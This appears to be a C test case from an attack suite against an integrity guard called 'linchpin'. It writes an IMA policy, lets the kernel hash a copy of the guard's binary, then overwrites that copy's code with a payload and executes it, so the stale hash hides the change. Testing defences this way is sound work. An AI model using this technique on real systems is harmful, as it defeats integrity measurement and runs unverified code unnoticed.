// SPDX-License-Identifier: GPL-2.0-only OR MIT
/*
 * Has the kernel keep the hash of a copy of linchpin (IMA) when it is read, writes other code into it, and executes it: a guard that asks
 * for the hash would be told the one that is kept.
 * Success: a map of the agent's.
 */
#include "payload.h"

#define COPY "/usr/bin/linchpin-copy"

/* As every policy begins: /proc/kcore alone would be hashed for hours. */
#define POLICY                                                                   \
	"dont_measure fsmagic=0x9fa0\n"                                          \
	"measure func=FILE_CHECK mask=MAY_READ uid=0\n"                          \
	"measure func=BPRM_CHECK\n"

static void undo(void)
{
	unlink(COPY);
}

static void run(void)
{
	const char *const copy[] = { "cp", LINCHPIN, COPY, NULL }, *const read[] = { "md5sum", COPY, NULL }, *const command[] = { COPY, "status", NULL };
	int file, policy = open("/sys/kernel/security/ima/policy", O_WRONLY);

	if (policy < 0 || dprintf(policy, POLICY) < 0 || close(policy))
		impossible("this machine has no policy of IMA to be written");
	run_command(copy);
	run_command(read);
	file = must("open", open(COPY, O_WRONLY));
	must("write", pwrite(file, payload, payload_end - payload, first_code(open(COPY, O_RDONLY))));
	close(file);
	judge_code(run_with(NULL, command));
}

ATTACK("changes a copy of linchpin after the kernel took its hash", .run = run, .undo = undo);
